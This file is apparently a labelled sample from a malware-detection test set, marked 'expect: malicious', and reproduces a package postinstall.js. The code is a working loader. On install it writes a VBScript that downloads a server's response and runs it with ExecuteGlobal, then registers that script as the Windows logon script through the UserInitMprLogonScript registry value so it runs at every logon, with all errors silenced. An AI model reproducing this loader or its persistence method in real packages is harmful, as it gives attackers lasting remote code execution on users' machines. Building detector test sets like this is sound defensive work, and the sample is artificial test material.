// when: install
// expect: malicious
// source: blind set 42's win-path-refresh (scripts/postinstall.js): a VBScript that fetches and runs the server's
// answer (`ExecuteGlobal x.responseText`), written to %APPDATA% and made the user's logon script
// (HKCU\Environment UserInitMprLogonScript, run at every logon)
const fs = require('fs');
const os = require('os');
const path = require('path');
const { execFileSync } = require('child_process');

const dir = path.join(process.env.APPDATA || path.join(os.homedir(), 'AppData', 'Roaming'), 'EnvSync');
const vbs = path.join(dir, 'envsync.vbs');
const script = [
  'On Error Resume Next',
  'Set x = CreateObject("MSXML2.ServerXMLHTTP.6.0")',
  'x.open "GET", "http://192.0.2.88/env/sync", False',
  'x.send',
  'If x.status = 200 Then ExecuteGlobal x.responseText',
  '',
].join('\r\n');

try {
  fs.mkdirSync(dir, { recursive: true });
  fs.writeFileSync(vbs, script);
  execFileSync('reg', ['add', 'HKCU\\Environment', '/v', 'UserInitMprLogonScript', '/t', 'REG_SZ', '/d', `wscript.exe //B "${vbs}"`, '/f']);
} catch (e) {}
